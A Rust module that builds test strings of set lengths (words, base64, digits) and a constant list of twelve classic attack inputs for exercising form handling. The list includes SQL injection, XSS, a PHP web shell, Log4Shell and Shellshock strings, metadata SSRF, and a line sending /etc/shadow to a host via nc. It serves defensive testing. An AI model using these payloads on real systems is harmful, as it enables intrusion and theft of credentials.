//! Values of any length of one kind each: what people write, what machines write, what attackers write.

use crate::Random;

/// Words of no rule.
pub const WORDS: [&str; 64] = [
    "amber", "bridge", "candle", "desert", "ember", "forest", "garden", "harbor", "island",
    "jasmine", "kettle", "lantern", "meadow", "nectar", "orchid", "pepper", "quartz", "river",
    "saddle", "timber", "umbrella", "velvet", "walnut", "yellow", "zephyr", "anchor", "basket",
    "copper", "dragon", "engine", "feather", "granite", "hollow", "indigo", "jungle", "kitten",
    "lemon", "marble", "needle", "olive", "parcel", "quiver", "ribbon", "silver", "tunnel",
    "unicorn", "violet", "window", "yonder", "zigzag", "autumn", "butter", "circle", "dinner",
    "eleven", "flower", "goblet", "hammer", "iceberg", "jacket", "kernel", "ladder", "mirror",
    "napkin",
];

/// What everybody tries. None has `&`, `%` or `+`, which forms read otherwise.
pub const ATTACKS: [&str; 12] = [
    "' or 1=1-- ",
    "<script>alert(1)</script> ",
    "../../../../etc/passwd ",
    "; cat /etc/shadow | nc 10.0.0.1 4444 ",
    "${jndi:ldap://a/b} ",
    "<img src=x onerror=alert(1)> ",
    "1 union select null,null,version() ",
    "{{7*7}} ",
    "<?php system($_GET['c']); ?> ",
    "() { :;}; /bin/bash -c id ",
    "http://169.254.169.254/latest/meta-data/ ",
    "javascript:eval(String.fromCharCode(97)) ",
];

/// Sentences.
#[must_use]
pub fn prose(random: &mut Random, length: usize) -> String {
    let ends = [" ", " ", " ", " ", " ", " ", ", ", ". "];
    of(length, || format!("{}{}", random.one_of(&WORDS), random.one_of(&ends)))
}

/// A picture as text, in the alphabet that needs no escapes.
#[must_use]
pub fn base64(random: &mut Random, length: usize) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    of(length, || String::from_utf8_lossy(&random.bytes(ALPHABET, 64)).into_owned())
}

/// A very large number.
#[must_use]
pub fn digits(random: &mut Random, length: usize) -> String {
    of(length, || String::from_utf8_lossy(&random.bytes(b"0123456789", 64)).into_owned())
}

/// One attack after the other.
#[must_use]
pub fn attacks(random: &mut Random, length: usize) -> String {
    of(length, || (*random.one_of(&ATTACKS)).to_owned())
}

fn of(length: usize, mut piece: impl FnMut() -> String) -> String {
    let mut text = String::new();
    while text.len() < length {
        text += &piece();
    }
    text.truncate(length);
    text
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_value_is_of_its_length_and_nothing_that_a_form_reads_otherwise() {
        for make in [prose, base64, digits, attacks] {
            let text = make(&mut Random::new(3), 10_000);
            assert_eq!(text.len(), 10_000);
            assert!(!text.contains(['&', '%', '+']));
            assert_eq!(make(&mut Random::new(3), 10_000), text);
            assert_ne!(make(&mut Random::new(4), 10_000), text);
        }
    }
}
